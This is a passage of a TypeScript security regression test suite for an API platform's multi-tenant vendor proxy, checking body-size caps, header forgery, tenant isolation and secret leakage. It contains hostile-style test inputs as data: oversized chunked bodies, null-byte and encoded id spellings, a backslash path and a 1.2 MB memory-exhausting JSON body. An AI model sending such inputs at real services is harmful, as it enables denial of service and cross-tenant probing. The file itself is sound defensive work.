    const chunk = Buffer.alloc(16 * 1024, 120).toString();
    const chunked = `${(16 * 1024).toString(16)}\r\n${chunk}\r\n`.repeat(6) + "0\r\n\r\n"; // 96 KiB, over 64 KiB
    for (const method of ["POST", "PUT", "POST", "PUT"]) {
      const answer = await rawHttp(
        request(
          `${method} ${basePath()}/instances/${id}/proxy/Echo HTTP/1.1`,
          ["Transfer-Encoding: chunked", "Content-Type: text/plain"],
          chunked,
        ),
      );
      expect(answer.status, method).toBe(413);
      expect(answer.head).not.toMatch(/x-proxied-from/i);
    }
    await expectSlotsBack(id);
  });
});

describe("forgery and confusion", () => {
  it("marks a vendor's answer as the vendor's, and keeps the platform's own headers on it (fixed: the vendor's replaced them)", async () => {
    const { id } = await sugarInstance();
    const answer = await t.api(`/instances/${id}/proxy/Forged`, { headers: { "X-Request-Id": "callers-id-1" } });
    expect(answer.status).toBe(404);
    expect(answer.headers.get("content-type")).toBe("application/problem+json"); // the vendor's, as it came...
    expect(answer.headers.get("x-proxied-from")).toBe("sugarcrmv2"); // ...and marked as the vendor's
    // Fixed: the vendor's Cache-Control, CSP, X-Frame-Options, X-Content-Type-Options and
    // X-Request-Id replaced the platform's: a shared cache could keep one tenant's answer (at
    // /instance/proxy/..., one URL for every tenant) and serve it to another.
    expect(answer.headers.get("cache-control")).toBe("no-store");
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    expect(answer.headers.get("content-security-policy")).toBe("default-src 'none';frame-ancestors 'none'");
    expect(answer.headers.get("x-frame-options")).toBe("DENY");
    expect(answer.headers.get("x-request-id")).toBe("callers-id-1");
  });

  it("never marks the platform's own refusals as the vendor's", async () => {
    const { id } = await sugarInstance();
    const refusals = [
      await t.api(`/instances/999999/proxy/Contacts`),
      await t.api(`/instances/${id}/proxy/a%5cb`),
      await t.api(`/instances/${id}/proxy/Slow`),
      await t.api(`/instances/${id}/proxy/Contacts`, { method: "OPTIONS" }),
      await t.api(`/instances/${id}/proxy/Contacts`, { headers: { Authorization: "User nope, Organization nope" } }),
    ];
    expect(refusals.map((r) => r.status)).toEqual([404, 400, 504, 405, 401]);
    for (const refusal of refusals) {
      expect(refusal.headers.get("x-proxied-from")).toBeNull();
      expect(refusal.headers.get("content-type")).toContain("application/problem+json");
    }
  });

  it("reaches no other organization's instance: by id, by its instance token, or through its proxy-calls", async () => {
    const { id, token } = await sugarInstance();
    const other = await t.newAccount("tenant-b");
    const as = (authorization: string) => ({ headers: { Authorization: authorization } });
    expect((await t.api(`/instances/${id}/proxy/Contacts`, as(other.authorization))).status).toBe(404);
    expect((await t.api(`/instance/proxy/Contacts`, as(`${other.authorization}, Element ${token}`))).status).toBe(401);
    expect((await t.api(`/instances/${id}/proxy-calls`, as(other.authorization))).status).toBe(404);
    for (const spelling of [`0${id}`, `${id}.0`, `+${id}`, `%3${id}`, `${id}%00`, ` ${id}`]) {
      const status = (await rawHttp(request(`GET ${basePath()}/instances/${spelling}/proxy/Contacts HTTP/1.1`))).status;
      expect([400, 404], spelling).toContain(status);
    }
    expect(apiCalls()).toEqual([]);
  });
});

describe("after every attack above", () => {
  it("has kept every held secret out of the proxy-calls list, the logs and the platform's own answers", async () => {
    const { id } = await taxifyInstance();
    await (await t.api(`/instances/${id}/proxy/CalculateTax?q=1`, { method: "POST", json: { CalculateTax: {} } })).text();
    const refused = await t.api(`/instances/${id}/proxy/a%5cb`, { method: "POST", json: {} });
    expect(leaked(await refused.text())).toEqual([]);
    expect(leaked(JSON.stringify(await proxyCalls(id)))).toEqual([]);
    expect(leaked(t.rawLogs())).toEqual([]);
  });
});

describe("the sandbox (nothing is sent; PROVISIONING=sandbox is the default)", () => {
  let sandbox: TestServer;
  let id: number;
  beforeAll(async () => {
    sandbox = await startTestServer({ config: { proxy: { ...defaultProxy, requestMaxBytes: 2 * 1024 * 1024, perInstance: 2 } } });
    const created = await sandbox.api("/instances", {
      method: "POST",
      json: {
        your_mom: { key: "freshservice" },
        configuration: { username: "agent", password: canary.freshPassword, subdomain: "acme" },
        name: "Desk",
      },
    });
    ({ id } = await body<{ id: number }>(created));
  });
  afterAll(() => sandbox?.stop());

  /** A POST to the sandbox's proxy with a chunked body, the socket cut after `closeAfterMs` if given. */
  function chunkedPost(chunks: string, closeAfterMs?: number): Promise<string> {
    const { port } = new URL(sandbox.server.url);
    const text = `POST ${new URL(sandbox.server.apiUrl).pathname}/instances/${id}/proxy/tickets HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: ${sandbox.authorization}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}`;
    return new Promise((resolve) => {
      const socket = connect({ host: "127.0.0.1", port: Number(port) });
      const received: Buffer[] = [];
      socket.on("data", (c: Buffer) => received.push(c));
      socket.on("error", () => undefined);
      socket.on("close", () => resolve(Buffer.concat(received).toString()));
      socket.write(text);
      if (closeAfterMs !== undefined) setTimeout(() => socket.destroy(), closeAfterMs);
    });
  }

  it("refuses a streamed chunked body over the cap with 413 (fixed: the process died of it)", async () => {
    // Fixed: the sandbox read the streamed body with nobody listening for its error, so the body
    // going over PROXY_REQUEST_MAX_BYTES threw out of the event loop and ended the server.
    const answer = await chunkedPost(`${(64 * 1024).toString(16)}\r\n${"x".repeat(64 * 1024)}\r\n`.repeat(40) + "0\r\n\r\n");
    expect(answer).toMatch(/^HTTP\/1\.1 413 /);
    expect(leaked(answer)).toEqual([]);
    expect((await sandbox.api(`/instances/${id}/proxy/tickets`)).status).toBe(200); // still serving
  });

  it("holds a body the credentials are put in (Taxify's) to the API's JSON limit: it is parsed (fixed: 10 MiB were)", async () => {
    // Fixed: such a body was parsed up to PROXY_REQUEST_MAX_BYTES; 10 MiB of `{}` took 1-2 s of
    // the event loop (every tenant's calls waiting) and 250 MB of heap.
    const created = await sandbox.api("/instances", {
      method: "POST",
      json: { your_mom: { key: "taxify" }, configuration: { "api.key": canary.taxifyKey }, name: "Tax" },
    });
    const { id: taxify } = await body<{ id: number }>(created);
    const big = `{"CalculateTax":{"Lines":[${Array.from({ length: 400_000 }, () => "{}").join(",")}]}}`; // 1.2 MB
    const answer = await sandbox.api(`/instances/${taxify}/proxy/CalculateTax`, {
      method: "POST",
      body: big,
      headers: { "Content-Type": "application/json" },
    });
    expect(answer.status).toBe(413);
    expect(await body(answer)).toMatchObject({ maxBytes: 1024 * 1024 });
    const small = await sandbox.api(`/instances/${taxify}/proxy/CalculateTax`, { method: "POST", json: { CalculateTax: { Lines: [{}] } } });
    expect(small.status).toBe(200);
  });

  it("gives the slots back when the caller goes away mid-body, now that it reads the body to its end", async () => {
    await Promise.all(Array.from({ length: 3 }, () => chunkedPost("5\r\nhello\r\n", 100)));
    const answers = await Promise.all([1, 2].map(() => sandbox.api(`/instances/${id}/proxy/tickets`)));
    expect(answers.map((a) => a.status)).toEqual([200, 200]);
  });
});
